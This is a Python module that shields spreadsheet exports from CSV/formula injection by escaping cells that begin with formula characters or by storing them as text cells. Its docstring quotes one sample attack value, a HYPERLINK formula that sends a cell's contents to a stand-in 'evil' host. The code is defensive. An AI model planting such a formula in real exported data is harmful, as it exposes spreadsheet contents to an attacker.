"""Cells that a spreadsheet program will show as text, never run as a formula.

A cell starting with =, +, -, @ (or a tab / carriage return, or their full-width forms) is
read by Excel and LibreOffice as a formula: a learner who names themselves
`=HYPERLINK("http://evil/?"&A1)` would otherwise get code into a manager's export
(OWASP "CSV injection"). Every CSV export passes its cells through `safe_cell` (a CSV
has no cell types, so the apostrophe is the only guard). XLSX exports store such text as
text cells, exactly as typed and without an apostrophe (Wagtail's SpreadsheetExportMixin
does; code that writes workbooks with openpyxl itself uses `xlsx_text_cell` /
`xlsx_text_row`).
"""

from __future__ import annotations

import re
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """`value` unchanged, unless it is text a spreadsheet would treat as a formula: then the
    same text behind an apostrophe (the spreadsheet convention for "this is text").

    Numbers stay numbers, and text that is just a signed number ("-3", "+381") is left alone,
    since no spreadsheet runs it."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def xlsx_text_cell(worksheet, value: Any):
    """An openpyxl write-only cell holding `value`, never a formula (openpyxl would otherwise
    turn any text starting with "=" into one). It may also be appended to an ordinary
    worksheet."""
    cell = WriteOnlyCell(worksheet, value)
    if cell.data_type == "f":
        cell.data_type = "s"
    return cell


def xlsx_text_row(worksheet, values) -> list:
    """A row for `worksheet.append`: every text cell stored as text, never as a formula."""
    return [xlsx_text_cell(worksheet, v) for v in values]
